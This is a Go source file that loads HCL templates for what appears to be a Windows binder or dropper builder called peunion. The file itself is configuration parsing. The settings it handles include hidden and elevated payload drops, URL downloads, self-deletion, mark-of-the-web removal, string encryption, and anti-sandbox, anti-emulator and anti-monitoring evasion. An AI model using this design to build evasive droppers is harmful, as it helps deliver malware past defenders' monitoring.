package hcltemplate

import (
	"context"
	"fmt"
	"os"
	"path/filepath"

	"github.com/hashicorp/hcl/v2"
	"github.com/hashicorp/hcl/v2/gohcl"
	"github.com/hashicorp/hcl/v2/hclparse"
	"github.com/zclconf/go-cty/cty"
	"github.com/zclconf/go-cty/cty/function"
	"github.com/zclconf/go-cty/cty/function/stdlib"

	"github.com/specialistvlad/peunion/internal/ctxlog"
	"github.com/specialistvlad/peunion/internal/fsutil"
	"github.com/specialistvlad/peunion/internal/project"
)

type options struct {
	files fsutil.FileOracle
}

// Option configures Load and Parse.
type Option func(*options)

// WithFiles sets the file oracle of the resulting project.
func WithFiles(f fsutil.FileOracle) Option {
	return func(o *options) { o.files = f }
}

// Load reads the template at path. The resulting project has no save
// location and is dirty, since it has never been saved as a document.
func Load(ctx context.Context, path string, opts ...Option) (*project.Project, error) {
	logger := ctxlog.FromContext(ctx)

	abs, err := filepath.Abs(path)
	if err != nil {
		return nil, fmt.Errorf("resolve template path %q: %w", path, err)
	}
	src, err := os.ReadFile(abs)
	if err != nil {
		return nil, fmt.Errorf("read template: %w", err)
	}
	p, err := Parse(ctx, src, abs, opts...)
	if err != nil {
		return nil, err
	}
	logger.Debug("Template loaded.", "path", abs, "items", p.Len())
	return p, nil
}

// Parse decodes template source. filename is used for diagnostics and its
// directory anchors relative paths.
func Parse(ctx context.Context, src []byte, filename string, opts ...Option) (*project.Project, error) {
	logger := ctxlog.FromContext(ctx)
	var o options
	for _, opt := range opts {
		opt(&o)
	}

	parser := hclparse.NewParser()
	file, diags := parser.ParseHCL(src, filename)
	if diags.HasErrors() {
		return nil, fmt.Errorf("failed to parse template %s: %w", filename, diags)
	}
	content, diags := file.Body.Content(rootSchema)
	if diags.HasErrors() {
		return nil, fmt.Errorf("failed to decode template %s: %w", filename, diags)
	}

	dir := filepath.Dir(filename)
	d := &decoder{dir: dir, evalCtx: evalContext(dir)}

	var popts []project.Option
	if o.files != nil {
		popts = append(popts, project.WithFileOracle(o.files))
	}
	p := project.New(popts...)

	var build *hcl.Block
	var items []project.Item
	for _, block := range content.Blocks {
		switch block.Type {
		case blockBuild:
			if build != nil {
				d.diags = append(d.diags, &hcl.Diagnostic{
					Severity: hcl.DiagError,
					Summary:  "Duplicate build block",
					Detail:   fmt.Sprintf("A build block was already defined at %s.", build.DefRange),
					Subject:  block.DefRange.Ptr(),
				})
				continue
			}
			build = block
			d.build(p, block)
		case blockFile:
			items = appendItem(items, d.file(block))
		case blockURL:
			items = appendItem(items, d.url(block))
		case blockMessageBox:
			items = appendItem(items, d.messageBox(block))
		}
	}
	if d.diags.HasErrors() {
		return nil, fmt.Errorf("failed to decode template %s: %w", filename, d.diags)
	}
	if err := p.AddItems(items...); err != nil {
		return nil, fmt.Errorf("failed to decode template %s: %w", filename, err)
	}

	p.MarkDirty()
	logger.Debug("Template decoded.", "file", filename, "blocks", len(content.Blocks))
	return p, nil
}

func evalContext(dir string) *hcl.EvalContext {
	return &hcl.EvalContext{
		Variables: map[string]cty.Value{
			"template_dir": cty.StringVal(filepath.ToSlash(dir)),
		},
		Functions: map[string]function.Function{
			"upper":     stdlib.UpperFunc,
			"lower":     stdlib.LowerFunc,
			"format":    stdlib.FormatFunc,
			"join":      stdlib.JoinFunc,
			"trimspace": stdlib.TrimSpaceFunc,
		},
	}
}

// decoder collects diagnostics across blocks so one run reports every
// problem in the template.
type decoder struct {
	dir     string
	evalCtx *hcl.EvalContext
	diags   hcl.Diagnostics
}

func (d *decoder) decode(body hcl.Body, target any) bool {
	diags := gohcl.DecodeBody(body, d.evalCtx, target)
	d.diags = append(d.diags, diags...)
	return !diags.HasErrors()
}

// appendItem skips blocks that failed to decode.
func appendItem(items []project.Item, it project.Item) []project.Item {
	if it == nil {
		return items
	}
	return append(items, it)
}

func (d *decoder) path(raw string) string {
	return fsutil.MakeAbsolute(filepath.FromSlash(raw), d.dir)
}

// enum parses an optional enum attribute and applies it through set.
func enum[T any](d *decoder, block *hcl.Block, attr string, raw *string, parse func(string) (T, error), set func(T)) {
	if raw == nil {
		return
	}
	v, err := parse(*raw)
	if err != nil {
		d.diags = append(d.diags, &hcl.Diagnostic{
			Severity: hcl.DiagError,
			Summary:  fmt.Sprintf("Invalid %s", attr),
			Detail:   err.Error(),
			Subject:  block.DefRange.Ptr(),
		})
		return
	}
	set(v)
}

func apply[T any](v *T, set func(T)) {
	if v != nil {
		set(*v)
	}
}

func (d *decoder) build(p *project.Project, block *hcl.Block) {
	var b BuildBlock
	if !d.decode(block.Body, &b) {
		return
	}
	enum(d, block, "platform", b.Platform, project.ParsePlatform, p.SetPlatform)
	enum(d, block, "manifest", b.Manifest, project.ParseManifest, p.SetManifest)
	enum(d, block, "obfuscation", b.Obfuscation, project.ParseObfuscation, p.SetObfuscation)
	if b.Icon != nil {
		p.SetIconPath(d.path(*b.Icon))
	}
	if a := b.Assembly; a != nil {
		apply(a.Title, p.SetAssemblyTitle)
		apply(a.Product, p.SetAssemblyProduct)
		apply(a.Copyright, p.SetAssemblyCopyright)
		apply(a.Version, p.SetAssemblyVersion)
	}
	apply(b.StringEncryption, p.SetStringEncryption)
	apply(b.StringLiteralEncryption, p.SetStringLiteralEncryption)
	apply(b.DeleteZoneID, p.SetDeleteZoneID)
	apply(b.Melt, p.SetMelt)
}

func (d *decoder) file(block *hcl.Block) project.Item {
	var fb FileBlock
	if !d.decode(block.Body, &fb) {
		return nil
	}
	var drop DropBlock
	if !d.decode(fb.Remain, &drop) {
		return nil
	}
	f := project.NewFileItem(d.path(block.Labels[0]))
	apply(fb.Compress, f.SetCompress)
	apply(fb.Encrypt, f.SetEncrypt)
	d.drop(f, block, drop)
	return f
}

func (d *decoder) url(block *hcl.Block) project.Item {
	var drop DropBlock
	if !d.decode(block.Body, &drop) {
		return nil
	}
	u := project.NewUrlItem(block.Labels[0])
	d.drop(u, block, drop)
	return u
}

type dropTarget interface {
	SetName(string)
	SetDropLocation(project.DropLocation)
	SetDropAction(project.DropAction)
	SetRunAsElevated(bool)
	SetCommandLine(string)
	SetHidden(bool)
	SetAntiSandbox(bool)
	SetAntiNetworkMonitor(bool)
	SetAntiProcessMonitor(bool)
	SetAntiEmulator(bool)
}

func (d *decoder) drop(t dropTarget, block *hcl.Block, b DropBlock) {
	apply(b.Name, t.SetName)
	enum(d, block, "drop_location", b.DropLocation, project.ParseDropLocation, t.SetDropLocation)
	enum(d, block, "drop_action", b.DropAction, project.ParseDropAction, t.SetDropAction)
	apply(b.RunAsElevated, t.SetRunAsElevated)
	apply(b.CommandLine, t.SetCommandLine)
	apply(b.Hidden, t.SetHidden)
	apply(b.AntiSandbox, t.SetAntiSandbox)
	apply(b.AntiNetworkMonitor, t.SetAntiNetworkMonitor)
	apply(b.AntiProcessMonitor, t.SetAntiProcessMonitor)
	apply(b.AntiEmulator, t.SetAntiEmulator)
}

func (d *decoder) messageBox(block *hcl.Block) project.Item {
	var b MessageBoxBlock
	if !d.decode(block.Body, &b) {
		return nil
	}
	m := project.NewMessageBoxItem()
	apply(b.Title, m.SetTitle)
	apply(b.Text, m.SetText)
	enum(d, block, "buttons", b.Buttons, project.ParseMessageBoxButtons, m.SetButtons)
	enum(d, block, "icon", b.Icon, project.ParseMessageBoxIcon, m.SetIcon)
	return m
}
